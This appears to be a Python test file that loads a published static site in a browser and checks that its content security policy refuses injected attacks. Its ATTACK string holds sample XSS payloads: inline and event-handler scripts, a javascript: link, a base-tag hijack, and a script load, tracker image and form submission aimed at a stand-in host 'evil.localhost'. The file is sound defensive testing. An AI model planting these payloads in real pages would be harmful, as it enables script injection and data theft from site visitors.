"""The content policy in a browser: the site lives under it, an attack does not."""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Request

from dumal.safety import check_output

pytestmark = pytest.mark.chromium

WATCH = """
window.breaches = [];
document.addEventListener("securitypolicyviolation", e => breaches.push(`${e.violatedDirective} ${e.blockedURI}`));
"""
"""Runs before anything of a page does."""

ATTACK = """
<script>document.title = "owned"</script>
<img src="x.png" alt="" onerror="document.title = 'owned'">
<a id="trap" href="javascript:document.title='owned'">x</a>
<style>body { display: none }</style>
<p id="styled" style="position: fixed">x</p>
<base href="http://evil.localhost:1/">
<img src="http://evil.localhost:1/tracker.gif" alt="">
<script src="http://evil.localhost:1/evil.js"></script>
<iframe srcdoc="<p>x"></iframe>
<form id="form" action="http://evil.localhost:1/steal"><input name="q"></form>
<object data="x.pdf"></object>
"""
"""What a page would hold if nobody had checked."""


TEMPT = """
async () => {
  document.querySelector("#trap").click();
  const seen = {
    title: document.title,
    base: document.baseURI,
    position: getComputedStyle(document.querySelector("#styled")).position,
    display: getComputedStyle(document.body).display,
  };
  document.querySelector("#form").requestSubmit();
  await new Promise(resolve => setTimeout(resolve, 300));
  return { ...seen, breaches: window.breaches };
}
"""
"""Follow the link, look around, send the form, and wait for what comes of it."""


class Quiet(http.server.SimpleHTTPRequestHandler):
    """A file server that keeps its log to itself."""

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def serve(folder: Path) -> Iterator[str]:
    """Serve a folder while a test runs."""
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(folder)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(scope="module")
def address(published: Path) -> Iterator[str]:
    """Where the site is served."""
    yield from serve(published)


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A tab that notes every breach of the policy."""
    made = browser.new_page()
    made.add_init_script(WATCH)
    yield made
    made.close()


def test_no_page_breaks_the_policy(page: Page, published: Path, address: str) -> None:
    """Every page, its scripts run, asks for nothing the policy refuses; of the help pages a few do."""
    broken: dict[str, object] = {}
    alike = sorted(published.glob("**/contribute/dm*/index.html"))
    pages = sorted(set(published.rglob("*.html")) - set(alike[1:-1]))
    for name in (path.relative_to(published).as_posix() for path in pages):
        page.goto(address + name)
        if breaches := page.evaluate("window.breaches"):
            broken[name] = breaches

    assert pages
    assert broken == {}


def test_search_and_appearance_work_under_the_policy(page: Page, address: str) -> None:
    """What scripts do after loading (fetching the index, switching colours, Enter in the field) is allowed."""
    page.goto(address)
    page.keyboard.press("/")
    page.keyboard.insert_text("2023")
    page.locator(".found a").first.wait_for()
    page.keyboard.press("Enter")
    page.wait_for_load_state()

    assert page.evaluate("window.breaches") == []


@pytest.fixture
def attacked(published: Path, tmp_path: Path) -> Path:
    """A page of the site with an attack where its text begins, as if it had come past every check."""
    text = (published / "404.html").read_text("utf-8")
    start = text.index("<h1>")
    (tmp_path / "index.html").write_text(text[:start] + ATTACK + text[start:], "utf-8")
    return tmp_path


def test_the_policy_holds_where_every_check_was_passed_by(page: Page, attacked: Path) -> None:
    """Nothing of the attack runs, covers the page or leaves the machine; each attempt is refused by name."""
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - Playwright marks handlers
    for address in serve(attacked):
        page.goto(address)
        seen = page.evaluate(TEMPT)
        refused = {breach.split()[0] for breach in seen["breaches"]}

        assert seen["title"] != "owned"
        assert seen["base"] == address
        assert seen["position"] == "static"
        assert seen["display"] != "none"
        assert {request.failure for request in asked if not request.url.startswith(address)} == {"csp"}
        assert refused >= {
            "script-src-elem",
            "script-src-attr",
            "style-src-elem",
            "style-src-attr",
            "img-src",
            "base-uri",
            "form-action",
            "object-src",
        }


def test_the_attack_is_seen_in_the_finished_site(attacked: Path, root: Path) -> None:
    """The look through the finished site names every line of the attack but the pictures of its own host."""
    text = (attacked / "index.html").read_text("utf-8").splitlines()
    first = next(number for number, line in enumerate(text, 1) if "owned" in line)
    found = {(one.code, (one.span.line or 0) - first) for one in check_output(attacked, root / "overrides")}

    assert found == {("DM710", line) for line in range(11)}
